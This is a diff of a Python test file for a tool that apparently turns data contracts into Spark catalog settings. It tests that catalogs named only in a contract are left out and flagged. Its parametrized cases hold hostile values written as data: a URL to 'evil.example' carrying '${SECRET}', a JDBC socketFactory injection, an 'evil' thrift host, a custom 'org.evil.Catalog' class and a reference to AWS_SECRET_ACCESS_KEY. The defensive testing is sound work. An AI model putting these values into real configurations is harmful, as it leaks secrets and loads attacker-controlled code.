@@ -88,16 +88,44 @@ def test_a_source_in_iceberg_is_read_through_its_own_catalog(profile):
     assert sources[0]["schema"] == "lake.sales"
 
 
+REST = "{server: x, type: iceberg, catalog: house, namespace: sales}"
+
+
 def test_a_catalog_that_is_a_server_keeps_its_address_and_no_secret(profile):
-    server = (
-        "{server: x, type: iceberg, catalog: house, namespace: sales, warehouse: wh, "
-        "catalogUrl: 'https://me:secret@catalog.example/${STAGE}'}"
-    )
-    _, settings = profile(server=server)
+    url = "https://me:secret@catalog.example/${STAGE}"
+    made, settings = profile(server=REST, overrides={"x": {"catalogUrl": url, "warehouse": "wh"}})
     prefix = "spark.sql.catalog.house"
     assert settings[f"{prefix}.type"] == "rest"
     assert settings[f"{prefix}.uri"] == "https://catalog.example/{{ env_var('STAGE', '') }}"
     assert settings[f"{prefix}.warehouse"] == "wh"
+    assert "generate/unset-catalog" not in {finding.rule for finding in made.plan.findings}
+
+
+@pytest.mark.parametrize(
+    ("values", "undue"),
+    [
+        ("catalogUrl: 'https://evil.example/${SECRET}'", "catalogUrl"),
+        ("catalogUrl: 'jdbc:postgresql://x/?socketFactory=evil', warehouse: w", "catalogUrl and"),
+        ("catalogUrl: 'thrift://evil:9083'", "catalogUrl"),
+        ("catalogType: glue", "catalogType"),
+        ("catalogType: org.evil.Catalog", "catalogType"),
+        ("warehouse: 'env:AWS_SECRET_ACCESS_KEY'", "warehouse"),
+        ("catalog: spark_catalog, warehouse: lake", "catalog "),
+    ],
+)
+def test_a_catalog_that_only_the_contract_names_is_left_out(profile, values, undue):
+    server = f"{{server: lake, type: iceberg, namespace: sales, {values}}}"
+    made, settings = profile(server=server)
+    catalogs = {key for key in settings if key.startswith("spark.sql.catalog.")}
+    assert catalogs == {"spark.sql.catalog.spark_catalog", "spark.sql.catalog.spark_catalog.type"}
+    assert settings["spark.sql.catalog.spark_catalog"].endswith("SparkSessionCatalog")
+    (told,) = (each for each in made.plan.findings if each.rule == "generate/unset-catalog")
+    assert told.message == (
+        "the profile does not tell Spark of the Iceberg catalog of the source 'feed',"
+        " for only the contract names it"
+    )
+    assert told.hint.startswith(f"write {undue}")
+    assert told.hint.endswith(" under [servers.lake] in floe.toml")
 
 
 def test_delta_is_set_up_alike_and_iceberg_has_sparks_catalog_where_both_are(profile):
